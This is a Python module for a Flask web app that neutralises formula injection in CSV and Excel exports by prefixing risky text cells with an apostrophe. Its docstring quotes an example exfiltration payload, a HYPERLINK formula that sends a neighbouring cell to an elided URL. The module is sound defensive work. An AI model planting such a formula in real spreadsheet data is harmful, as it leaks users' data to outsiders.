"""What leaves the hall as a file is inert: every text cell of a CSV or Excel export passes here.

A cell whose text starts with `=`, `+`, `-` or `@` (or a tab or carriage return, which some
programs skip before looking) is read as a formula by spreadsheet programs (CWE-1236): a
service named `=HYPERLINK("http://…"&A1,"点此")` would send a neighbouring cell away when the
file is opened. Such a text is written with a leading apostrophe, the spreadsheet programs' own
mark for "this is text"; numbers stay numbers.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable
from typing import Any

from flask import Response
from openpyxl import Workbook
from openpyxl.worksheet.worksheet import Worksheet

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def inert(value: Any) -> Any:
    """A cell's value as written: numbers as they are, None as empty, any text neutralised."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return str(value)
    if isinstance(value, int | float):
        return value
    text = str(value)
    return "'" + text if text.startswith(FORMULA_STARTS) else text


def inert_row(row: Iterable[Any]) -> list[Any]:
    return [inert(value) for value in row]


def append(sheet: Worksheet, row: Iterable[Any]) -> None:
    """Append a row to a worksheet, every text cell a string (never a formula)."""
    sheet.append(inert_row(row))
    for cell in sheet[sheet.max_row]:
        if isinstance(cell.value, str):
            cell.data_type = "s"


def csv_response(heading: list[Any], rows: Iterable[Iterable[Any]], filename: str) -> Response:
    """A CSV file (UTF-8 with a byte-order mark, so Excel opens Chinese text right)."""
    out = io.StringIO()
    out.write("\ufeff")
    writer = csv.writer(out)
    writer.writerow(inert_row(heading))
    for row in rows:
        writer.writerow(inert_row(row))
    return Response(
        out.getvalue(),
        mimetype="text/csv",
        headers={"Content-Disposition": f'attachment; filename="{filename}"'},
    )


def workbook_response(book: Workbook, filename: str) -> Response:
    out = io.BytesIO()
    book.save(out)
    return Response(
        out.getvalue(),
        mimetype=XLSX,
        headers={"Content-Disposition": f'attachment; filename="{filename}"'},
    )
